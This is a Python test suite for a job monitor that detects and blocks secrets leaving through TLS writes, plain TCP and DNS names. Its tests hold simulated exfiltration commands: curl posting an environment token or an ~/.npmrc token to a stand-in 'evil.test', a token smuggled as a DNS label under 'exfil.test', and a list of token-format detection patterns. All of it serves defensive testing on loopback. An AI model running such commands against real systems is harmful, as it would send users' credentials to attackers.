"""Secrets leaving (issue #12): the job's secret environment values, the tokens of the credential
files it reads and well-known token formats, found in what processes hand to OpenSSL's SSL_write
(before encryption), in plain TCP segments and in DNS names. In enforce mode a secret about to
leave for a destination not allowed to receive it is stopped before it is sent (the writer is
killed from the uprobe; a plain segment is dropped and its connection reset; a name is refused
at the DNS gate); observe mode records it. The evidence names the secret and holds at most its
keyed hash: every test greps the whole run directory for the value.

Real clients (curl, Python's ssl and urllib, dig) against real servers on loopback: a TLS server
with a certificate from a CA this test makes, a plain HTTP server, both recording the bodies they
got, and a dnsmasq naming them under .test. Nothing leaves loopback.
"""
import base64
import http.server
import json
import os
import shutil
import ssl
import subprocess
import tempfile
import time
import unittest

from rwtest import RW, Dnsmasq, Run, RwTestCase
from test_tls import make_ca, serve

DNS = "127.0.67.53"
SRV = "127.0.67.1"  # good.test (may receive NPM_TOKEN) and evil.test (may not)
TLS_PORT, HTTP_PORT = 8443, 8080
NPM_TOKEN = "npm_Q7fT2kLm9xW4vB8nR1sY6hJ3cD5gZ0pA2eUq"
GHP = "ghp_" + "Zx9Kq2Lm7Nw4Rt8Yv1Bc6Df3Gh5Jk0Ps2Ua"
FILE_TOKEN = "fileTok3n-8c1f0b7e2d9a4c6b5e3f1a0d9c8b7a6f"

RESOLV = r"""set -e
mount --make-rprivate /
mount --bind "$RW_RESOLV" /etc/resolv.conf
exec "$@"
"""


class Recording:
    """HTTPS and HTTP on one loopback address, keeping every request body they got."""

    def __init__(self, addr, crt, key):
        self.bodies = []
        me = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                me.bodies.append(bytes(self.requestline, "latin-1") + b"\n" +
                                 bytes(str(self.headers), "latin-1") + body)
                out = b"ok\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            do_POST = do_PUT = do_GET

            def log_message(self, *a):
                pass

        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(crt, key)
        ctx.set_alpn_protocols(["http/1.1"])

        self.tls = serve(addr, TLS_PORT, Handler, ctx)
        self.http = serve(addr, HTTP_PORT, Handler)

    def got(self, value):
        return any(value.encode() in b for b in self.bodies)

    def stop(self):
        for s in (self.tls, self.http):
            s.shutdown()
            s.server_close()


# A job writing a request over TLS in pieces: the head, then a body in chunks, the secret in a
# later chunk after filler (argv: host, secret, filler bytes before it).
SPLIT_CLIENT = r"""
import os, socket, ssl, sys
host, secret, filler = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3])
ctx = ssl.create_default_context(cafile=os.environ["CA"])
s = ctx.wrap_socket(socket.create_connection((host, 8443)), server_hostname=host)
body = [b"a" * filler, b"token=", secret, b"&end=1"]
n = sum(len(b) for b in body)
s.sendall(b"POST /up HTTP/1.1\r\nHost: %s:8443\r\nContent-Length: %d\r\n\r\n" % (host.encode(), n))
for b in body:
    for i in range(0, len(b), 16384):
        s.sendall(b[i:i + 16384])
print("SENT", flush=True)
print(s.recv(100)[:12])
"""


class SecretServers(RwTestCase):
    """The TLS/plain recording server, the resolver, and the job/policy/evidence helpers every
    secrets test class uses. SCRIPTS: client scripts written once per class, each path set as
    the class attribute of its name (`split` is the job's $SPLIT)."""
    SCRIPTS = {"split": SPLIT_CLIENT}

    @classmethod
    def setUpClass(cls):
        cls.root = tempfile.mkdtemp(prefix="rw-secrets-")
        cls.ca, crt, key = make_ca(cls.root)
        cls.srv = Recording(SRV, crt, key)
        cls.dns = Dnsmasq(DNS, records=[("good.test", SRV), ("evil.test", SRV),
                                        ("exfil.test", SRV)])
        cls.resolv = os.path.join(cls.root, "resolv.conf")
        with open(cls.resolv, "w") as f:
            f.write(f"nameserver {DNS}\n")
        for name, text in cls.SCRIPTS.items():
            setattr(cls, name, os.path.join(cls.root, name + ".py"))
            with open(getattr(cls, name), "w") as f:
                f.write(text)

    @classmethod
    def tearDownClass(cls):
        cls.srv.stop()
        cls.dns.stop()
        shutil.rmtree(cls.root, True)

    def setUp(self):
        super().setUp()
        self.srv.bodies.clear()
        self.home = os.path.join(self.tmp, "home")
        os.makedirs(self.home, exist_ok=True)

    def policy(self, mode, extra=""):
        path = os.path.join(self.tmp, "policy.yaml")
        with open(path, "w") as f:
            f.write(f"version: 1\nmode: {mode}\nallow:\n"
                    f"  - host: good.test\n  - host: evil.test\n  - host: exfil.test\n"
                    f"  - ip: {DNS}\n"
                    f"dns:\n  upstream: {DNS}\n"
                    f"secrets:\n  allow:\n    - env: NPM_TOKEN\n      to: [good.test]\n" + extra)
        return path

    def job(self, script, mode="enforce", env=None, tag="out", sign=False, extra=""):
        out = os.path.join(self.tmp, tag)
        argv = ["unshare", "-m", "--propagation", "private", "sh", "-c", RESOLV, "sh",
                RW, "run", "--out", out] + ([] if sign else ["--no-sign"]) + [
                "--policy", self.policy(mode, extra), "--mode", mode, "--", "sh", "-c", script]
        e = dict(os.environ, RW_RESOLV=self.resolv, CA=self.ca, HOME=self.home,
                 SPLIT=self.split, NPM_TOKEN=NPM_TOKEN)
        e.update(env or {})
        p = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=e)
        return Run(p.returncode, p.stderr, out, p.stdout)

    def assertNowhere(self, run, value):
        """The value is in no file of the run directory."""
        for d, _, files in os.walk(run.outdir):
            for n in files:
                with open(os.path.join(d, n), "rb") as f:
                    self.assertNotIn(value.encode(), f.read(), f"{n} holds the secret")
                    f.seek(0)
                    self.assertNotIn(value.lower().encode(), f.read().lower(), n)

    def leaks(self, run, **match):
        return run.of("secret_leak", **match)


class Secrets(SecretServers):
    def findings(self, run):
        return [f for f in (run.summary or {}).get("findings", []) if f["kind"] == "secret_leak"]

    # ------------------------------------------------------------ env secrets over TLS

    def test_tls_post_to_unallowed_host_stopped(self):
        run = self.job('curl -sS --cacert "$CA" -o /dev/null -d "t=$NPM_TOKEN" '
                       'https://evil.test:8443/up; echo curl=$?')
        self.assertIn("curl=137", run.stdout, run.stderr)  # SIGKILL before SSL_write
        self.assertFalse(self.srv.got(NPM_TOKEN), "the server got the secret")
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        self.assertEqual(ev[0]["secret"], "NPM_TOKEN")
        self.assertEqual(ev[0]["source"], "env")
        self.assertEqual(ev[0]["channel"], "tls_write")
        self.assertEqual(ev[0]["destination"], "evil.test")
        self.assertEqual(ev[0]["verdict"], "deny")
        self.assertTrue(ev[0]["killed"])
        self.assertTrue(ev[0]["hash"].startswith("[redacted:"))
        self.assertTrue(ev[0]["exe"].endswith("/curl"))
        f = self.findings(run)
        self.assertEqual(len(f), 1, run.summary)
        self.assertEqual(f[0]["severity"], "high")
        self.assertIn("NPM_TOKEN", f[0]["description"])
        self.assertIn("stopped", f[0]["description"])
        self.assertNowhere(run, NPM_TOKEN)

    def test_tls_post_recorded_in_observe(self):
        run = self.job('curl -sS --cacert "$CA" -o /dev/null -d "t=$NPM_TOKEN" '
                       'https://evil.test:8443/up; echo curl=$?', mode="observe")
        self.assertIn("curl=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(NPM_TOKEN))
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        self.assertEqual(ev[0]["verdict"], "audit")
        self.assertNotIn("killed", ev[0])
        self.assertIn("recorded", self.findings(run)[0]["description"])
        self.assertNowhere(run, NPM_TOKEN)

    def test_allowed_destination_passes(self):
        run = self.job('curl -sS --cacert "$CA" -o /dev/null -d "t=$NPM_TOKEN" '
                       'https://good.test:8443/up; echo curl=$?')
        self.assertIn("curl=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(NPM_TOKEN))
        self.assertEqual(self.leaks(run), [])
        self.assertEqual(self.findings(run), [])
        self.assertNowhere(run, NPM_TOKEN)

    def test_split_across_writes_and_deep_in_a_large_body(self):
        """Python writes the head, then the body in 16 KiB writes: the secret is 1 MiB in, in
        a write of its own after the head was sent."""
        run = self.job(f'python3 "$SPLIT" evil.test "$NPM_TOKEN" {1 << 20}; echo py=$?')
        self.assertIn("py=137", run.stdout, run.stderr)
        self.assertNotIn("SENT", run.stdout)
        self.assertFalse(self.srv.got(NPM_TOKEN))
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        self.assertEqual(ev[0]["destination"], "evil.test")  # remembered from the head
        self.assertNowhere(run, NPM_TOKEN)

    def test_one_large_write(self):
        """curl sends a 4 MiB body whose secret is near its end."""
        body = os.path.join(self.tmp, "body")
        with open(body, "wb") as f:
            f.write(b"x" * (4 << 20) + b"&t=" + NPM_TOKEN.encode() + b"\n")
        os.chmod(self.tmp, 0o755)
        run = self.job(f'curl -sS --cacert "$CA" -o /dev/null --data-binary @{body} '
                       'https://evil.test:8443/up; echo curl=$?')
        self.assertIn("curl=137", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(NPM_TOKEN))
        os.unlink(body)
        self.assertNowhere(run, NPM_TOKEN)

    # ------------------------------------------------------------ formats, files, plain, dns

    def test_gnutls_git_over_https_stopped(self):
        """git over https (libcurl-gnutls: the gnutls_record_send probe) with the secret in
        its URL, to a host not allowed to receive it."""
        run = self.job('GIT_SSL_CAINFO="$CA" GIT_TERMINAL_PROMPT=0 git ls-remote '
                       '"https://evil.test:8443/r.git?t=$NPM_TOKEN" >/dev/null 2>&1; '
                       'echo git=$?')
        self.assertNotIn("git=0", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(NPM_TOKEN), "the server got the secret")
        ev = self.leaks(run)
        self.assertTrue(ev, run.events)
        self.assertEqual(ev[0]["destination"], "evil.test")
        self.assertTrue(ev[0]["killed"])
        self.assertNowhere(run, NPM_TOKEN)

    def test_github_token_format(self):
        """A ghp_ token the job was never given (not in its environment) is a format match."""
        run = self.job(f'curl -sS --cacert "$CA" -o /dev/null -H "X-T: {GHP}" '
                       'https://evil.test:8443/up; echo curl=$?')
        self.assertIn("curl=137", run.stdout, run.stderr)
        self.assertFalse(self.srv.got(GHP))
        ev = self.leaks(run)
        self.assertEqual([(e["secret"], e["source"]) for e in ev], [("github", "format")])
        self.assertNowhere(run, GHP)

    def test_credential_file_token(self):
        """A token of the job's ~/.npmrc for good.test: may go there, not to evil.test."""
        with open(os.path.join(self.home, ".npmrc"), "w") as f:
            f.write(f"//good.test/:_authToken={FILE_TOKEN}\n")
        script = ('T=$(sed -n "s/.*_authToken=//p" "$HOME/.npmrc"); '
                  'curl -sS --cacert "$CA" -o /dev/null -H "Authorization: Bearer $T" '
                  'https://good.test:8443/ok; echo good=$?; '
                  'curl -sS --cacert "$CA" -o /dev/null -d "t=$T" https://evil.test:8443/up; '
                  'echo evil=$?')
        run = self.job(script)
        self.assertIn("good=0", run.stdout, run.stderr)
        self.assertIn("evil=137", run.stdout, run.stderr)
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        self.assertEqual(ev[0]["source"], "file")
        self.assertTrue(ev[0]["secret"].endswith("/.npmrc"), ev[0])
        self.assertEqual(ev[0]["key"], "_authToken")
        self.assertEqual(ev[0]["destination"], "evil.test")
        self.assertNowhere(run, FILE_TOKEN)

    def test_every_token_format_found_in_the_kernel(self):
        """Each token format the kernel looks for, in a plain segment (the scan's own format
        check, not Hyperscan): dropped and recorded, one record per connection. The PEM heads
        cover the first and the last place "PRIVATE KEY-----" may start. (github_pat_ is left
        to user space by design: src/secrets/secrets.c, secrets_kernel_sync.)"""
        tokens = {
            "ghp_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6": "github",
            "npm_" + "Zq7fT2kLm9xW4vB8nR1sY6hJ3cD5gZ0pA2eUq": "npm",
            "AKIA" + "Q7FT2KLM9XW4VB8N": "aws",
            "xoxb-" + "1234567890-ab_cd": "slack",
            "-----BEGIN PRIVATE KEY-----": "private_key",
            "-----BEGIN ENCRYPTED PRIVATE KEY-----": "private_key",
        }
        script = "".join(f"curl -sS -m 10 -o /dev/null --data-binary 't={t}&x=1' "
                         f"http://evil.test:8080/up; echo curl{i}=$?; "
                         for i, t in enumerate(tokens))
        run = self.job(script)
        for i in range(len(tokens)):
            self.assertIn(f"curl{i}=56", run.stdout, run.stderr)
        ev = self.leaks(run)
        self.assertEqual(sorted((e["secret"], e["source"], e["channel"]) for e in ev),
                         sorted((n, "format", "plain_tcp") for n in tokens.values()), run.events)
        for t in tokens:
            self.assertFalse(self.srv.got(t), t)

    def test_plain_http_dropped_and_reset(self):
        run = self.job('curl -sS -m 10 -o /dev/null -d "t=$NPM_TOKEN" '
                       'http://evil.test:8080/up; echo curl=$?')
        self.assertIn("curl=56", run.stdout, run.stderr)  # reset, not a timeout
        self.assertFalse(self.srv.got(NPM_TOKEN))
        ev = self.leaks(run)
        self.assertEqual(len(ev), 1, run.events)
        self.assertEqual(ev[0]["channel"], "plain_tcp")
        self.assertTrue(ev[0]["dropped"])
        self.assertTrue(ev[0]["reset"])
        self.assertEqual(ev[0]["address"], f"{SRV}:{HTTP_PORT}")
        self.assertNowhere(run, NPM_TOKEN)

    def test_token_in_a_plain_request_target_is_never_written(self):
        """Observe: a plain GET with the secret in its target (the `conn_name` line records the
        target) reaches the server, and is recorded with the tag in the secret's place."""
        run = self.job('curl -sS -m 10 -o /dev/null "http://evil.test:8080/q?t=$NPM_TOKEN"; '
                       'echo curl=$?', mode="observe")
        self.assertIn("curl=0", run.stdout, run.stderr)
        self.assertTrue(self.srv.got(NPM_TOKEN))
        names = [e for e in run.of("conn_name") if e.get("path", "").startswith("/q?t=")]
        self.assertTrue(names, run.events)
        self.assertIn("[redacted:", names[0]["path"])
        self.assertEqual(len(self.leaks(run, channel="plain_tcp")), 1, run.events)
        self.assertNowhere(run, NPM_TOKEN)

    def test_token_in_dns_name_refused_at_the_gate(self):
        label = NPM_TOKEN.lower()
        log = os.path.join(self.tmp, "dns.log")
        run = self.job(f'dig +short +tries=1 +time=3 @{DNS} {label}.exfil.test; echo dig=$?; '
                       'dig +short +tries=1 +time=3 good.test; echo ok=$?')
        self.assertIn(SRV, run.stdout, run.stderr)
        dns = [e for e in run.of("dns") if "exfil.test" in (e.get("query") or "")]
        self.assertTrue(dns, run.events)
        self.assertEqual(dns[0]["verdict"], "deny")
        self.assertIn("[redacted:", dns[0]["query"])
        f = self.findings(run)
        self.assertEqual(len(f), 1, run.summary)
        self.assertIn("dns_name", f[0]["description"])
        self.assertNowhere(run, NPM_TOKEN)
        del log

    def test_lockdown_report_and_signed_statement(self):
        """`on_finding: {high: kill}`: the leak ends the job (86); the report and the signed
        statement name it; no file of the run holds the value."""
        run = self.job('curl -sS --cacert "$CA" -o /dev/null -d "t=$NPM_TOKEN" '
                       'https://evil.test:8443/up; echo curl=$?; sleep 5; echo AFTER',
                       sign=True, extra="on_finding:\n  high: kill\n")
        self.assertEqual(run.rc, 86, run.stderr)
        self.assertNotIn("AFTER", run.stdout)
        self.assertFalse(self.srv.got(NPM_TOKEN))
        rep = subprocess.run([RW, "report", run.outdir], capture_output=True, text=True)
        self.assertIn("secret_leak", rep.stdout)
        self.assertIn("NPM_TOKEN", rep.stdout)
        with open(os.path.join(run.outdir, "attestation.dsse.json")) as f:
            stmt = json.loads(base64.b64decode(json.load(f)["payload"]))
        kinds = [x["kind"] for x in stmt["predicate"]["monitorLog"]["findings"]]
        self.assertIn("secret_leak", kinds)
        self.assertNowhere(run, NPM_TOKEN)

    # ------------------------------------------------------------ no false positives

    def test_normal_jobs_with_secrets_in_env(self):
        """Ordinary requests by curl, Python and git, secrets in the environment: nothing."""
        env = {"GITHUB_TOKEN": GHP, "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY",
               "DB_PASSWORD": "correct-horse-battery"}
        script = ('curl -sS --cacert "$CA" -o /dev/null https://evil.test:8443/a && '
                  'curl -sS --cacert "$CA" -o /dev/null -d "name=x&v=1" https://evil.test:8443/b && '
                  'curl -sS -o /dev/null http://evil.test:8080/c && '
                  'python3 -c "import urllib.request,ssl,os;'
                  'c=ssl.create_default_context(cafile=os.environ[\'CA\']);'
                  'urllib.request.urlopen(\'https://evil.test:8443/d\',data=b\'q=1\'*5000,context=c).read()" && '
                  'git ls-remote https://evil.test:8443/repo.git >/dev/null 2>&1; '
                  'GIT_SSL_CAINFO="$CA" git ls-remote https://good.test:8443/r.git >/dev/null 2>&1; '
                  'echo done=$?')
        run = self.job(script, env=env)
        self.assertIn("done=", run.stdout, run.stderr)
        self.assertEqual(self.leaks(run), [], run.events)
        self.assertEqual(self.findings(run), [])
        for v in env.values():
            self.assertNowhere(run, v)


if __name__ == "__main__":
    unittest.main()
